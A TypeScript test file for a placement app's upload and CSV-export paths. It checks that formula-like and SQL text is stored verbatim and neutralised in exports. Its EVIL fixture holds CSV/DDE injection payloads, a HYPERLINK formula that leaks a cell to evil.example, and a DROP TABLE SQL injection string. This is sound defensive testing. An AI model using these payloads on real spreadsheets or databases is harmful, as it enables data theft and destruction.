// Formula-looking text in an otherwise valid upload is stored exactly as written (docs/uploads:
// "stored rather than refused") and never evaluated; every CSV export then neutralises formula
// starts. The one CSV writer is figuresToCsv (GET /runs/:id/figures?format=csv and `stagebrug figures --csv`).
// Every upload kind is here: placement list, place registration, recognition and mentor file. The
// recognitions and mentors feed the figures as counts only; no export writes their text.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { kbo, openWorld, type World } from '../../apps/api/test/support/world.js'
import {
  csv,
  MENTOR_HEADER,
  mentor,
  PLACE_HEADER,
  place,
  pupil,
  RECOGNITION_HEADER,
  recognition,
  STUDENT_HEADER,
  table,
  utf8,
} from '../support/upload-files.js'
import { fileUpload } from './multipart.js'

const EVIL = {
  stamboeknummer: '=1+1',
  klas: "=cmd|' /C calc'!A0",
  voornaam: '@SUM(1)',
  naam: '-Peeters',
  sql: "Robert'); DROP TABLE student;--",
  phone: '+32 11 22 33 44',
  link: '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  mentorName: "=2+5*cmd|' /C calc'!A0",
  mentorFunction: '@Magazijn',
  reference: '-ERK+1',
}

/** The cells of a `;` CSV as a spreadsheet reads them: quotes removed, `""` as `"`. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"'
      i++
    } else if (quoted) {
      if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ';') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  return rows
}

describe('formula-looking text: stored as written, neutralised in every CSV export', () => {
  let w: World
  beforeAll(async () => {
    w = await openWorld()
  })
  afterAll(() => w?.close())

  it('stores a placement list, a registration, a recognition and a mentor file with formula and SQL text exactly, and exports no cell a spreadsheet would run', async () => {
    const list = table(STUDENT_HEADER, [
      pupil(EVIL.stamboeknummer, {
        instellingsnummer: '3004',
        klas: EVIL.klas,
        voornaam: EVIL.voornaam,
        naam: EVIL.naam,
        postcode: '2400',
        gemeente: 'Mol',
      }),
      pupil('0000002', {
        instellingsnummer: '3004',
        naam: EVIL.sql,
        voornaam: EVIL.phone,
        postcode: '2400',
        gemeente: 'Mol',
      }),
    ])
    const students = await w.call('schoolD', {
      method: 'POST',
      url: '/school/uploads/students',
      ...fileUpload('lijst.csv', utf8(csv(list), true)),
    })
    expect([students.statusCode, students.json().counts?.created]).toEqual([200, 2])
    const stored = await w.db
      .selectFrom('student')
      .select(['external_id', 'first_name', 'last_name', 'class'])
      .where('school_id', '=', w.ids.schoolD)
      .orderBy('external_id')
      .execute()
    expect(stored).toEqual([
      { external_id: '0000002', first_name: EVIL.phone, last_name: EVIL.sql, class: '6LOG' },
      { external_id: EVIL.stamboeknummer, first_name: EVIL.voornaam, last_name: EVIL.naam, class: EVIL.klas },
    ])
    const listed = await w.call('schoolD', { url: '/school/students' })
    expect(
      listed
        .json()
        .items.map((s: { firstName: string }) => s.firstName)
        .sort(),
    ).toEqual([EVIL.phone, EVIL.voornaam].sort())

    const registration = table(PLACE_HEADER, [
      place(EVIL.link, {
        ondernemingsnummer: kbo(2),
        bedrijfsnaam: EVIL.klas,
        contactpersoon: EVIL.voornaam,
        telefoon: EVIL.phone,
        postcode: '2400',
        gemeente: 'Mol',
      }),
    ])
    const places = await w.call('companyY', {
      method: 'POST',
      url: '/company/uploads/places',
      ...fileUpload('plaatsen.csv', utf8(csv(registration), true)),
    })
    expect([places.statusCode, places.json().counts?.created]).toEqual([200, 1])
    const company = await w.db
      .selectFrom('company')
      .select(['name', 'contact_name', 'contact_phone'])
      .where('id', '=', w.ids.companyY)
      .executeTakeFirstOrThrow()
    expect(company).toEqual({ name: EVIL.klas, contact_name: EVIL.voornaam, contact_phone: EVIL.phone })

    // The company's recognition and mentor files, with formula text in their text columns.
    const recognitions = await w.call('companyY', {
      method: 'POST',
      url: '/company/uploads/recognitions',
      ...fileUpload(
        'erkenningen.csv',
        utf8(
          csv(
            table(RECOGNITION_HEADER, [
              recognition({ ondernemingsnummer: kbo(2), erkenningsnummer: EVIL.reference }),
            ]),
          ),
          true,
        ),
      ),
    })
    expect([recognitions.statusCode, recognitions.json().counts?.created]).toEqual([200, 1])
    const mentors = await w.call('companyY', {
      method: 'POST',
      url: '/company/uploads/mentors',
      ...fileUpload(
        'mentoren.csv',
        utf8(
          csv(
            table(MENTOR_HEADER, [
              mentor({
                ondernemingsnummer: kbo(2),
                naam: EVIL.mentorName,
                functie: EVIL.mentorFunction,
                telefoon: EVIL.phone,
                plaatscodes: 'Y1',
              }),
            ]),
          ),
          true,
        ),
      ),
    })
    expect([mentors.statusCode, mentors.json().counts?.created]).toEqual([200, 1])
    const declared = await w.call('companyY', { url: '/company/recognitions' })
    expect(declared.json().items.map((r: { reference: string }) => r.reference)).toEqual([EVIL.reference])
    const mentorRows = await w.db
      .selectFrom('mentor')
      .select(['name', 'function', 'phone'])
      .where('company_id', '=', w.ids.companyY)
      .execute()
    expect(mentorRows).toEqual([{ name: EVIL.mentorName, function: EVIL.mentorFunction, phone: EVIL.phone }])

    // A night over these students and places, then every CSV export of it, for every reader.
    const night = await w.runNight(true)
    const dangerous = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/
    const number = /^-?\d+(,\d+)?$/
    let cells = 0
    for (const who of ['admin', 'schoolD', 'companyY'] as const)
      for (const level of ['flanders', 'province', 'arrondissement', 'region']) {
        const res = await w.call(who, { url: `/runs/${night.run.id}/figures?format=csv&level=${level}` })
        expect([who, level, res.statusCode]).toEqual([who, level, 200])
        for (const value of Object.values(EVIL)) expect(res.body).not.toContain(value)
        for (const row of cellsOf(res.body.replace(/^\uFEFF/, '')))
          for (const cell of row) {
            cells++
            if (dangerous.test(cell) && !number.test(cell))
              expect.fail(`${who} ${level}: cell ${JSON.stringify(cell)} would run as a formula`)
          }
      }
    expect(cells).toBeGreaterThan(100)
  })
})
